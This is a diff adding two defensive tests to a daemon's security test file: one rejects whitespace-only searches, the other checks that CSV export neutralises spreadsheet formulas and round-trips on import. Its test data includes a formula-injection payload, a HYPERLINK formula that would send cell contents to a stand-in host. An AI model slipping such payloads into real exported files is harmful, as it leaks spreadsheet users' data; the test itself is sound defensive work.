@@ -1,6 +1,8 @@
 """Trust under a hostile colleague: what a mistake in the configuration,
 a stranger on the socket or a crafted file can and cannot do."""
 
+import csv
+import io
 import json
 import os
 import pwd
@@ -256,8 +258,63 @@ def test_read_only_database_fails_at_start():
         d.cleanup()
 
 
+def test_list_search_of_blanks_is_invalid():
+    d = Daemon("blanks").start()
+    try:
+        d.client("add", "one", "--due", "in 1d", "--for", "Acme")
+        for text in ("\t", " \t ", "\t\t"):
+            for flag in ("--grep", "--for"):
+                r = d.client("list", flag, text, expect=1)
+                check("has no words" in r.stderr, r.stderr)
+                check("fts5" not in r.stderr, r.stderr)
+        r = d.call({"v": 1, "op": "list", "grep": "\u000b"})
+        check(r["error"]["code"] == "invalid", r)
+        r = d.json("list", "--grep", "one\t")
+        check(len(r["promises"]) == 1, r)
+        d.stop()
+    finally:
+        d.cleanup()
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"hi\")", "+1+1", "-2",
+            "@SUM(A1)", "'quoted", "plain, with a comma"]
+
+
+def test_csv_export_neutralises_formulas():
+    d = Daemon("csvout").start()
+    e = Daemon("csvin").start()
+    try:
+        due = int(time.time()) + 86400
+        for t in FORMULAS:
+            r = d.call({"v": 1, "op": "add", "title": t, "for": t,
+                        "due_at": due})
+            check(r["ok"], r)
+        out = d.client("export", "--csv").stdout
+        rows = list(csv.reader(io.StringIO(out)))
+        head = rows[0]
+        for row in rows[1:]:
+            for name in ("title", "for"):
+                cell = row[head.index(name)]
+                check(cell[0] not in "=+-@\t\r", f"{name} cell {cell!r}")
+        titles = sorted(r[head.index("title")] for r in rows[1:])
+        check("'=HYPERLINK(" in "".join(titles), titles)
+        # what export writes, import reads back as it was
+        e.client("import", "-", input=out)
+        got = e.json("list")["promises"]
+        check(sorted(p["title"] for p in got) == sorted(FORMULAS),
+              [p["title"] for p in got])
+        check(sorted(p["for"] for p in got) == sorted(FORMULAS), got)
+        d.stop()
+        e.stop()
+    finally:
+        d.cleanup()
+        e.cleanup()
+
+
 if __name__ == "__main__":
-    run([test_export_after_out_of_range,
+    run([test_list_search_of_blanks_is_invalid,
+         test_csv_export_neutralises_formulas,
+test_export_after_out_of_range,
          test_database_gone_is_not_recreated,
          test_read_only_database_fails_at_start,
 test_refusals_are_no_write_channel,
